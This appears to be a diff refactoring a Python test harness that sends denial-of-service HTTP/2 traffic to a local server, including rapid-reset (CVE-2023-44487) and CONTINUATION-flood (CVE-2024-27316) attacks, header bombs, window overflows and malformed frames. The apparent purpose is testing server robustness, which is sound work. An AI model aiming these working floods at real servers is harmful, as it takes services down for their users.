@@ -12,7 +12,7 @@ DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION, WINDOW = 0, 1, 3, 4, 6, 9, 8
 REQUEST = b"\x83\x87\x04\x0a/v1/import\x41\x01x"
 
 
-def frame(kind, flags, stream, payload=b""):
+def frame(kind, flags, *, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
@@ -30,11 +30,11 @@ def open_one(port):
     plain.bind(("127.0.0.2", 0))
     plain.connect(("127.0.0.1", port))
     link = context.wrap_socket(plain, server_hostname="localhost")
-    link.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    link.sendall(PREFACE + frame(SETTINGS, 0, stream=0))
     return link
 
 
-def pour(port, parts, seconds=8):
+def pour(port, parts, *, seconds=8):
     """Sends parts until the server closes, or for some seconds; reads nothing."""
     end = time.monotonic() + seconds
     try:
@@ -49,23 +49,26 @@ def pour(port, parts, seconds=8):
 
 def resets(port):
     """Streams that are opened and reset at once (CVE-2023-44487)."""
-    pour(port, (frame(HEADERS, 4, 2 * one + 1, REQUEST) + frame(RESET, 0, 2 * one + 1, struct.pack(">I", 8)) for one in range(200_000)))
+    pour(
+        port,
+        (frame(HEADERS, 4, stream=2 * one + 1, payload=REQUEST) + frame(RESET, 0, stream=2 * one + 1, payload=struct.pack(">I", 8)) for one in range(200_000)),
+    )
 
 
 def headers(port):
     """An endless header (CVE-2024-27316)."""
 
     def parts():
-        yield frame(HEADERS, 0, 1, REQUEST)
+        yield frame(HEADERS, 0, stream=1, payload=REQUEST)
         for _ in range(100_000):
-            yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x81\x7e" + b"a" * 253)
+            yield frame(CONTINUATION, 0, stream=1, payload=b"\x00\x01a\x7f\x81\x7e" + b"a" * 253)
 
     pour(port, parts())
 
 
 def settings(port):
     """Settings and pings that each require an answer, which is never read."""
-    pour(port, (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) + frame(PING, 0, 0, bytes(8)) for _ in range(500_000)))
+    pour(port, (frame(SETTINGS, 0, stream=0, payload=struct.pack(">HI", 4, 65_535)) + frame(PING, 0, stream=0, payload=bytes(8)) for _ in range(500_000)))
 
 
 def bombs(port):
@@ -74,23 +77,28 @@ def bombs(port):
 
     def parts():
         for one in range(2_000):
-            yield frame(HEADERS, 4, 2 * one + 1, REQUEST + big + b"\xbe" * 8_000)
+            yield frame(HEADERS, 4, stream=2 * one + 1, payload=REQUEST + big + b"\xbe" * 8_000)
 
     pour(port, parts())
 
 
 def bodies(port):
     """Bodies beyond every window, on streams that were never opened, and a window that overflows."""
-    with_head = frame(HEADERS, 4, 1, REQUEST)
-    pour(port, [with_head, *(frame(DATA, 0, 1, bytes(16_384)) for _ in range(10_000))])
-    pour(port, [frame(DATA, 0, 7, bytes(16_384))] * 100)
-    pour(port, [frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF))] * 100)
+    with_head = frame(HEADERS, 4, stream=1, payload=REQUEST)
+    pour(port, [with_head, *(frame(DATA, 0, stream=1, payload=bytes(16_384)) for _ in range(10_000))])
+    pour(port, [frame(DATA, 0, stream=7, payload=bytes(16_384))] * 100)
+    pour(port, [frame(WINDOW, 0, stream=0, payload=struct.pack(">I", 0x7FFFFFFF))] * 100)
 
 
 def sizes(port):
     """Frames whose length field is wrong, and impermissible lengths."""
-    for part in (b"\xff\xff\xff" + bytes([HEADERS, 4]) + struct.pack(">I", 1), frame(SETTINGS, 0, 0, b"abc"), frame(PING, 0, 0, b"x"), bytes(9_000)):
-        pour(port, [part], 2)
+    for part in (
+        b"\xff\xff\xff" + bytes([HEADERS, 4]) + struct.pack(">I", 1),
+        frame(SETTINGS, 0, stream=0, payload=b"abc"),
+        frame(PING, 0, stream=0, payload=b"x"),
+        bytes(9_000),
+    ):
+        pour(port, [part], seconds=2)
 
 
 def is_spoken(port):
@@ -98,7 +106,7 @@ def is_spoken(port):
     seen, end = b"", time.monotonic() + 5
     try:
         with open_one(port) as link:
-            link.sendall(frame(HEADERS, 5, 1, REQUEST))
+            link.sendall(frame(HEADERS, 5, stream=1, payload=REQUEST))
             while time.monotonic() < end:
                 seen += link.recv(4_096)
                 while len(seen) >= 9 and len(seen) >= 9 + (size := int.from_bytes(seen[:3], "big")):
